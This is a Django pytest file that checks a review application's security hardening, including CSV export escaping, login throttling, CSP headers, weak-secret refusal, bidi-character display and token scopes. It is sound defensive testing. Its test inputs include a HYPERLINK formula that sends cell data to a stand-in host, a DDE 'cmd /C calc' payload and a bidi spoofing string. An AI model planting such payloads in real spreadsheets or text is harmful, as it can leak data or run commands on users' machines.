"""The web face stays hardened (issue 11 §3): CSV formula injection, sign-in throttling, the
Content-Security-Policy header, weak secrets refused, bidi controls shown, token scopes within
roles, an append-only audit log in the admin, and API docs public only when the operator says so.
The in-browser CSP check of every page is tests/browser/test_csp_pages.py."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from django.contrib.admin.sites import site as admin_site
from django.test import Client, RequestFactory

from pipelines.datasets.exports import export_stream, version_export_rows
from pipelines.datasets.versions import dataset_create, dataset_version_create
from reviewapp.charts import bar_chart
from reviewapp.models import ApiToken, AuditEvent, Item, Membership
from reviewapp.rendering import render_markdown
from reviewapp.services.tokens import api_token_create
from tests.factories import PASSWORD, ProjectFactory, UserFactory, item_row, make_items, member
from tests.pipelines.datasets_helpers import build_curated

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]


def session(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


# --- CSV formula injection -------------------------------------------------------------------


def test_csv_cell_neutralises_formulas_and_keeps_numbers_and_text():
    from reviewapp.csv_safe import csv_cell

    for value in FORMULAS:
        assert csv_cell(value) == "'" + value
    for value in ["plain", "", "a=b", "-5", "+1.5", "-1e3", 42, -3.5, None]:
        assert csv_cell(value) == value


def test_dataset_csv_export_neutralises_formulas_and_jsonl_parquet_keep_the_raw_value(
    project, reviewer, reviewer2, curator
):
    build_curated(project, reviewer, reviewer2, curator)
    Item.objects.filter(project=project, external_id="ext-1").update(request=FORMULAS[0], response=FORMULAS[3])
    dataset = dataset_create(project=project, user=curator, name="all")
    version = dataset_version_create(dataset=dataset, user=curator)

    def export(fmt: str) -> bytes:
        rows = version_export_rows(version=version, shape="agent-eval")
        return b"".join(export_stream(rows, fmt=fmt, shape="agent-eval", question_keys=version.question_keys))

    rows = {r["request_id"]: r for r in csv.DictReader(io.StringIO(export("csv").decode()))}
    assert rows["ext-1"]["request"] == "'" + FORMULAS[0]
    assert rows["ext-1"]["response"] == "'" + FORMULAS[3]
    jsonl = {json.loads(line)["request_id"]: json.loads(line) for line in export("jsonl").decode().splitlines()}
    assert jsonl["ext-1"]["request"] == FORMULAS[0] and jsonl["ext-1"]["response"] == FORMULAS[3]
    table = pq.read_table(io.BytesIO(export("parquet"))).to_pylist()
    by_id = {r["request_id"]: r for r in table}
    assert by_id["ext-1"]["request"] == FORMULAS[0]


def test_dashboard_chart_csv_neutralises_formulas(project, curator):
    chart = bar_chart(name="n", title="t", desc="d", rows=[("@evil", 3.0), ("fine", -1.0)], value_header="=count")
    rows = list(csv.reader(io.StringIO(chart.csv())))
    assert rows == [["label", "'=count"], ["'@evil", "3.0"], ["fine", "-1.0"]]
    # And over HTTP: a reviewer whose username starts with "@" in the reviewers' chart CSV.
    odd = member(project, "reviewer", username="@SUM")
    make_items(project, 1)
    from reviewapp.services.queue import queue_next
    from reviewapp.services.reviews import review_submit

    lease = queue_next(project=project, user=odd)
    review_submit(assignment_id=lease.pk, user=odd, answers={"correct": True, "helpfulness": 4})
    client = session(curator)
    page = client.get(f"/projects/{project.slug}/reviewers/")
    assert page.status_code == 200
    names = [c for c in page.context["charts"]] if page.context and "charts" in page.context else []
    chart_name = names[0].name if names else "reviews"
    response = client.get(f"/projects/{project.slug}/reviewers/", {"format": "csv", "chart": chart_name})
    assert response.status_code == 200, response.content
    text = response.content.decode()
    assert "'@SUM" in text and "\n@SUM" not in text


# --- sign-in throttling ----------------------------------------------------------------------


def login(client: Client, username: str, password: str, ip: str = "10.0.0.1") -> Any:
    return client.post("/login/", {"username": username, "password": password}, REMOTE_ADDR=ip)


@pytest.fixture
def throttle(settings):  # type: ignore[no-untyped-def]
    settings.LOGIN_THROTTLE_DELAY_AFTER = 2
    settings.LOGIN_THROTTLE_USER_LOCK_AFTER = 4
    settings.LOGIN_THROTTLE_IP_LOCK_AFTER = 6
    settings.LOGIN_THROTTLE_LOCK_SECONDS = 2
    return settings


@pytest.mark.slow
def test_failed_sign_ins_slow_down_then_lock_with_a_plain_message_then_unlock(throttle, reviewer):
    client = Client()
    assert "Please enter a correct username" in login(client, "rita", "wrong").content.decode()
    assert "Please enter a correct username" in login(client, "rita", "wrong").content.decode()
    # Two failures: the next attempt must wait, and is refused without checking the password.
    slowed = login(client, "rita", PASSWORD)
    assert slowed.status_code == 200 and "_auth_user_id" not in client.session
    assert "Several sign-ins failed. Wait 2 seconds before trying again." in slowed.content.decode()
    time.sleep(2.1)
    login(client, "rita", "wrong")  # 3rd failure
    time.sleep(2.1)  # the slow-down never outlasts a lock (2 s here)
    locked = login(client, "rita", "wrong")  # 4th failure: locked
    assert "Please enter a correct username" in locked.content.decode()
    refused = login(client, "rita", PASSWORD)
    text = refused.content.decode()
    assert "sign-in is locked for now. Try again in 2 seconds" in text, text
    assert "_auth_user_id" not in client.session
    # Another address does not help: the username is locked.
    assert "locked" in login(Client(), "rita", PASSWORD, ip="10.9.9.9").content.decode()
    time.sleep(2.1)
    ok = login(client, "rita", PASSWORD)
    assert ok.status_code == 302 and client.session["_auth_user_id"] == str(reviewer.pk)


def test_failures_from_one_address_lock_that_address_for_every_username(throttle, reviewer):
    throttle.LOGIN_THROTTLE_DELAY_AFTER = 100  # no slow-down here: the address limit alone
    for n in range(6):
        login(Client(), f"nobody{n}", "wrong", ip="10.0.0.66")
    refused = login(Client(), "rita", PASSWORD, ip="10.0.0.66")
    assert "sign-in is locked" in refused.content.decode()
    assert login(Client(), "rita", PASSWORD, ip="10.0.0.67").status_code == 302


def test_the_admin_login_is_throttled_too(throttle, reviewer):
    throttle.LOGIN_THROTTLE_DELAY_AFTER = 100
    reviewer.is_staff = True
    reviewer.save()
    for _ in range(4):
        Client().post("/admin/login/", {"username": "rita", "password": "wrong"}, REMOTE_ADDR="10.1.1.1")
    time.sleep(0.1)
    response = Client().post("/admin/login/", {"username": "rita", "password": PASSWORD}, REMOTE_ADDR="10.1.1.2")
    assert "sign-in is locked" in response.content.decode()


def test_a_locked_username_does_not_stop_its_api_token(throttle, engineer):
    throttle.LOGIN_THROTTLE_DELAY_AFTER = 100
    _, raw = api_token_create(user=engineer, name="ci", scopes=["ingest"])
    for _ in range(5):
        login(Client(), "eddie", "wrong")
    assert "locked" in login(Client(), "eddie", PASSWORD).content.decode()
    response = Client().post(
        "/api/v1/projects/support/items/",
        data=json.dumps([item_row(1)]),
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {raw}",
    )
    assert response.status_code in (200, 201), response.content


# --- Content-Security-Policy -----------------------------------------------------------------


def test_every_page_carries_a_strict_content_security_policy(reviewer):
    for url in ["/login/", "/", "/settings/tokens/", "/api/docs/"]:
        response = session(reviewer).get(url)
        policy = response.headers.get("Content-Security-Policy", "")
        assert policy, url
        directives = dict(part.strip().split(" ", 1) for part in policy.split(";") if part.strip())
        assert directives["script-src"] == "'self'", url
        assert directives["style-src"] == "'self'", url
        assert directives["object-src"] == "'none'" and directives["frame-ancestors"] == "'none'"
        assert "unsafe-eval" not in policy


def test_templates_have_no_inline_script_or_event_handler():
    import re

    for path in (ROOT / "templates").rglob("*.html"):
        text = path.read_text()
        for tag in re.findall(r"<script\b[^>]*>", text):
            assert "src=" in tag, f"{path}: inline <script>"
        assert not re.search(r"\son[a-z]+\s*=", text), f"{path}: inline event handler"
        assert "<style" not in text, f"{path}: inline <style>"
        assert "hx-on" not in text, f"{path}: hx-on runs inline script"


# --- production settings refuse weak secrets -------------------------------------------------


def start_settings(**env: str) -> subprocess.CompletedProcess[str]:
    clean = {k: v for k, v in os.environ.items() if k not in {"REVIEWDESK_TESTING", "DEBUG", "SECRET_KEY"}}
    clean.update({"ALLOWED_HOSTS": "example.org", "DJANGO_SETTINGS_MODULE": "reviewapp.settings"}, **env)
    return subprocess.run(
        [sys.executable, "-c", "import django; django.setup(); print('started')"],
        cwd=ROOT,
        env=clean,
        capture_output=True,
        text=True,
        timeout=120,
    )


@pytest.mark.slow  # starts the application in processes of its own
def test_a_weak_secret_key_stops_the_start_with_a_clear_message():
    short = start_settings(SECRET_KEY="only-thirty-characters-long-xx")
    assert short.returncode != 0 and "SECRET_KEY is too weak" in short.stderr and "50 characters" in short.stderr
    repetitive = start_settings(SECRET_KEY="abab" * 20)
    assert repetitive.returncode != 0 and "SECRET_KEY is too weak" in repetitive.stderr
    strong = start_settings(SECRET_KEY="k3J9-vQ2_xP8zL5mN1bR7tY4wE6uI0oA2sD9fG3hJ5kL8zX1cV7")
    assert strong.returncode == 0 and "started" in strong.stdout, strong.stderr
    debug = start_settings(SECRET_KEY="short", DEBUG="true")
    assert debug.returncode == 0, debug.stderr


def test_password_validators_want_twelve_characters_unlike_the_username():
    from django.contrib.auth.password_validation import validate_password
    from django.core.exceptions import ValidationError

    user = UserFactory.build(username="margaretha", email="margaretha@example.org")
    with pytest.raises(ValidationError, match="at least 12 characters"):
        validate_password("Xq7#vLp2!Wz", user=user)
    with pytest.raises(ValidationError, match="too similar"):
        validate_password("margaretha1984", user=user)
    validate_password("violet-harbour-kettle-29", user=user)


# --- bidirectional control characters --------------------------------------------------------

SPOOF = "Refund approved \u202edecnac\u202c today \u2066x\u2069 \u200f."


def test_bidi_controls_are_shown_as_marked_escapes_in_markdown_and_plain_text():
    from reviewapp.rendering import render_untrusted

    for html in (str(render_markdown(SPOOF)), str(render_untrusted(SPOOF))):
        for char in "\u202e\u202c\u2066\u2069\u200f":
            assert char not in html
        assert '<span class="bidi"' in html and "\u27e8U+202E\u27e9" in html and "\u27e8U+200F\u27e9" in html
    link = str(render_markdown('[x](https://example.org "a\u202eb")'))
    assert "\u202e" not in link and 'title="a\u27e8U+202E\u27e9b"' in link
    # The marker cannot be forged from the input to smuggle markup.
    assert "<span" not in str(render_markdown('<span class="bidi">x</span> \ue000202E\ue001'))


def test_bidi_controls_are_visible_on_the_review_adjudication_and_run_pages(
    project, reviewer, reviewer2, curator, engineer
):
    from evaluations.models import RunChunk
    from evaluations.services.chunks import run_chunk_execute
    from evaluations.services.runs import run_start
    from evaluations.services.suites import suite_create
    from reviewapp.services.ingest import items_ingest
    from reviewapp.services.queue import queue_next
    from reviewapp.services.reviews import review_submit

    project.reviews_per_item = 2
    project.save(update_fields=["reviews_per_item"])
    row = item_row(
        0,
        request=SPOOF,
        response="Answer " + SPOOF,
        retrieved_context=[{"content": "chunk " + SPOOF, "doc_uri": "kb/\u202eevil.md"}],
    )
    items_ingest(project=project, rows=[row])
    item = Item.objects.get(project=project)

    def visible(html: str, at_least: int) -> None:
        assert "Refund approved" in html
        for char in "\u202e\u202c\u2066\u2069\u200f":
            assert char not in html
        assert html.count('class="bidi"') >= at_least

    page = session(reviewer).get(f"/projects/{project.slug}/review/")
    assert page.status_code == 200
    visible(page.content.decode(), 8)
    # Two reviewers disagree: the item goes to adjudication, where the same text is shown.
    for user, correct in ((reviewer, True), (reviewer2, False)):
        lease = queue_next(project=project, user=user)
        review_submit(assignment_id=lease.pk, user=user, answers={"correct": correct, "helpfulness": 3}, comment=SPOOF)
    adjudicate = session(curator).get(f"/projects/{project.slug}/adjudicate/{item.pk}/")
    assert adjudicate.status_code == 200
    visible(adjudicate.content.decode(), 10)
    # An evaluation run's rows show the request and response too.
    suite = suite_create(project=project, name="Core", scorers=["exact_match"], config={}, actor=None)
    run = run_start(project=project, suite_version=suite.versions.get(), actor=engineer)
    for chunk_id in RunChunk.objects.filter(run=run).values_list("pk", flat=True):
        run_chunk_execute(chunk_id=chunk_id)
    run_page = session(engineer).get(f"/evaluations/runs/{run.pk}/")
    assert run_page.status_code == 200
    visible(run_page.content.decode(), 4)


# --- token scopes within roles ---------------------------------------------------------------


def test_a_token_cannot_have_scopes_beyond_the_users_roles(project, reviewer, engineer):
    client = session(reviewer)
    response = client.post(
        "/api/v1/tokens/", data={"name": "too much", "scopes": ["review", "promote"]}, content_type="application/json"
    )
    assert response.status_code == 400, response.content
    assert "promote" in json.dumps(response.json()) and "scopes" in json.dumps(response.json())
    assert not ApiToken.objects.filter(user=reviewer).exists()
    page = client.post("/settings/tokens/", {"name": "too much", "scopes": ["export"], "project": ""})
    assert page.status_code == 422 and "do not allow the scope(s): export" in page.content.decode()
    ok = client.post("/api/v1/tokens/", data={"name": "fine", "scopes": ["review"]}, content_type="application/json")
    assert ok.status_code == 201
    curate = session(engineer).post(
        "/api/v1/tokens/", data={"name": "e", "scopes": ["curate"]}, content_type="application/json"
    )
    assert curate.status_code == 400 and "curate" in json.dumps(curate.json())
    # Pinned to a project, the role there counts: an engineer elsewhere does not lend "promote".
    other = ProjectFactory(slug="other", name="Other")
    Membership.objects.create(project=other, user=reviewer, role="engineer")
    pinned = client.post(
        "/api/v1/tokens/",
        data={"name": "p", "scopes": ["promote"], "project": project.slug},
        content_type="application/json",
    )
    assert pinned.status_code == 400 and "promote" in json.dumps(pinned.json())
    anywhere = client.post(
        "/api/v1/tokens/", data={"name": "p", "scopes": ["promote"]}, content_type="application/json"
    )
    assert anywhere.status_code == 201


# --- audit log append-only in the admin ------------------------------------------------------


def test_the_admin_cannot_add_change_or_delete_audit_events(project):
    superuser = UserFactory(username="root", is_staff=True, is_superuser=True)
    request = RequestFactory().get("/admin/")
    request.user = superuser
    model_admin = admin_site._registry[AuditEvent]
    assert not model_admin.has_add_permission(request)
    assert not model_admin.has_change_permission(request)
    assert not model_admin.has_delete_permission(request)
    client = session(superuser)
    assert client.get("/admin/reviewapp/auditevent/add/").status_code == 403
    assert client.get("/admin/reviewapp/auditevent/").status_code == 200


# --- API docs and schema ---------------------------------------------------------------------


def test_api_docs_and_schema_need_a_user_unless_public(settings, engineer):
    settings.API_DOCS_PUBLIC = False
    assert Client().get("/api/schema/").status_code in (401, 403)
    docs = Client().get("/api/docs/")
    assert docs.status_code == 302 and docs["Location"].startswith("/login/")
    assert session(engineer).get("/api/schema/").status_code == 200
    assert session(engineer).get("/api/docs/").status_code == 200
    _, raw = api_token_create(user=engineer, name="ci", scopes=["ingest"])
    assert Client().get("/api/schema/", HTTP_AUTHORIZATION=f"Bearer {raw}").status_code == 200
    settings.API_DOCS_PUBLIC = True
    assert Client().get("/api/schema/").status_code == 200
    assert Client().get("/api/docs/").status_code == 200


def test_api_docs_default_follows_debug():
    from reviewapp import settings as app_settings

    assert app_settings.API_DOCS_PUBLIC is app_settings.DEBUG
